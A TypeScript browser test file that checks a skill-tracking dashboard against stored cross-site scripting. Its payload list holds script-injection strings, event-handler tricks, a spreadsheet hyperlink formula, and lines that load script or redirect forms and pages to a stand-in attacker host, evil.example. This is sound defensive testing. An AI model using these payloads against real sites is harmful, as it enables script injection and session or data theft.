import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { chromiumPath, inChromium, launchChromium } from "../support/chromium.ts";
import { openView, settled, shippedPolicy, type Tab } from "../support/dashboard.ts";
import { type LocalWorker, startLocalWorker } from "../support/local-worker.ts";

/** Text that becomes script, a request or an element wherever it is taken for markup, an address or a formula. */
const PAYLOADS = [
  "<script>alert(1)</script>",
  '"><script src=https://evil.example/x.js></script>',
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "</bdi></td></table><form action=https://evil.example><button>send",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "javascript:alert(1)",
  "' onmouseover='alert(1)",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "=HYPERLINK(\"https://evil.example\",\"x\")",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<math><mtext></mtext><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
  "<a href=\"javascript:alert(1)\" id=main>main</a>",
];

const VIEWS = ["?range=7d", "?view=errors&range=7d", "?view=explore&range=7d", "?view=people&range=7d"];

let browser: Browser;
let worker: LocalWorker;
let tab: Tab;
let dialogs = 0;

describe.skipIf(chromiumPath === undefined)(inChromium("stored script payloads"), () => {
  beforeAll(async () => {
    browser = await launchChromium();
    worker = await startLocalWorker(allMetadata);
    const events = PAYLOADS.flatMap((payload, index) => [
      { skill: payload, version: payload.slice(0, 64), source: payload.slice(0, 64), variant: payload.slice(0, 64), userId: payload, sessionId: payload },
      {
        skill: payload,
        outcome: "error",
        errorType: payload,
        errorMessage: `${payload} ${index}`,
        metadata: { [payload]: payload, nested: { [payload]: [payload] } },
      },
    ]);
    expect(await worker.post(events)).toMatchObject({ rejected: 0, accepted: events.length });
    tab = await openView(browser, worker.url, "");
    tab.page.on("dialog", (dialog) => {
      dialogs += 1;
      void dialog.dismiss();
    });
  });
  afterAll(() => Promise.all([browser?.close(), worker?.stop()]));

  it("the dashboard is served with its policy, which allows no inline script", async () => {
    const response = await fetch(worker.url);
    expect(response.headers.get("Content-Security-Policy")).toBe(await shippedPolicy());
    expect(await shippedPolicy()).not.toMatch(/unsafe-inline|unsafe-eval|script-src[^;]*\*/);
  });

  it.each([...VIEWS, ...PAYLOADS.map((payload) => `?view=skill&range=7d&skill=${encodeURIComponent(payload)}`)])("in %s they open no dialog, send no request and make no element", async (search) => {
    const { page, requests, complaints } = tab;
    await page.goto(`${worker.url}/${search}`);
    await settled(page);
    // What is folded away and what stands in tooltips counts too.
    for (const summary of await page.locator(".panel summary:visible").all()) await summary.click();
    for (const link of (await page.locator(".panel tbody a").all()).slice(0, 10)) await link.hover();
    await page.waitForTimeout(100);
    expect(dialogs).toBe(0);
    expect(complaints).toEqual([]);
    expect(requests.filter((url) => !url.startsWith(worker.url) && !url.startsWith("data:"))).toEqual([]);
    expect(await page.locator("main :is(script, img, iframe, object, embed, base, meta, link, style, math, form:not([id]), [onerror], [onload], [onmouseover], a[href*='javascript:'])").count()).toBe(0);
    expect(await page.locator("svg:not(.sparkline, .legend .sign)").count()).toBe(0);
  });
});

const allMetadata = `import { createTrackingHandler } from "./dist/track-skills.worker.js";
export default createTrackingHandler({ metadata: "all" });
`;
